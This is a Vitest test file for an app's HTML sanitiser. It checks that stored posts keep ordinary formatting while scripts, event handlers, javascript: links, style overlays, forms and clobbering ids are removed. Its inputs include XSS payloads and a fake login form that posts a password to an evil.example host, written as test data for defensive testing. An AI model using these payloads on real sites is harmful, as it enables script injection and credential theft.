// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { sanitizeHtml, sanitizeRichText } from '@/lib/sanitize-html'

const parse = (html: string) => {
  const box = document.createElement('div')
  box.innerHTML = html
  return box
}

describe('sanitizeHtml', () => {
  it('keeps what a post is written with: text formatting, headings, lists, links, images', () => {
    const html = '<h2>Plan</h2><p>A <strong>bold</strong> <em>move</em>, <a href="https://example.com/x">a link</a>.</p><ul><li>one</li></ul><img src="https://example.com/a.webp" alt="A">'
    expect(sanitizeHtml(html)).toBe(html)
  })

  it('removes scripts, handlers and javascript: links', () => {
    const safe = parse(sanitizeHtml('<p onclick="steal()">Hi<script>steal()</script><a href="javascript:steal()">x</a><img src=x onerror="steal()"></p>'))
    expect(safe.querySelector('script')).toBeNull()
    expect(safe.innerHTML).not.toMatch(/onclick|onerror|javascript:/)
  })

  it('removes style sheets, style attributes, forms and every form control', () => {
    const hostile = [
      '<style>body { display: none }</style>',
      '<p style="position:fixed;inset:0;z-index:99">Cover</p>',
      '<form action="https://evil.example/login"><input name="password" type="password"><select><option>a</option></select>',
      '<textarea>notes</textarea><button type="submit">Sign in</button></form>',
    ].join('')
    const safe = parse(sanitizeHtml(hostile))
    for (const tag of ['style', 'form', 'input', 'select', 'textarea', 'button']) expect(safe.querySelector(tag), tag).toBeNull()
    expect(safe.querySelector('[style]')).toBeNull()
    expect(safe.textContent).toContain('Cover')
  })

  it('prefixes every id and name, so stored HTML cannot take an id the app looks up or a global name', () => {
    const safe = parse(sanitizeHtml('<p id="query-state">[]</p><h2 id="root">Root</h2><a name="location">x</a><img name="cookie" src="https://example.com/a.webp">'))
    expect(safe.querySelector('#query-state')).toBeNull()
    expect(safe.querySelector('#root')).toBeNull()
    expect([...safe.querySelectorAll('[id]')].map((element) => element.id)).toEqual(['user-content-query-state', 'user-content-root'])
    expect([...safe.querySelectorAll('[name]')].map((element) => element.getAttribute('name'))).toEqual(['user-content-location', 'user-content-cookie'])
  })
})

describe('sanitizeRichText, as a long text is saved', () => {
  it('sanitises HTML with the same rule', () => {
    expect(sanitizeRichText('<p id="x" style="color:red">Hi</p><form><input></form>')).toBe('<p id="user-content-x">Hi</p>')
  })

  it('leaves plain text exactly as written (no escaped ampersands)', () => {
    const text = 'R&D costs < 5% of the budget.\n\nSecond paragraph'
    expect(sanitizeRichText(text)).toBe(text)
    expect(sanitizeRichText(null)).toBeNull()
    expect(sanitizeRichText(undefined)).toBeUndefined()
  })
})
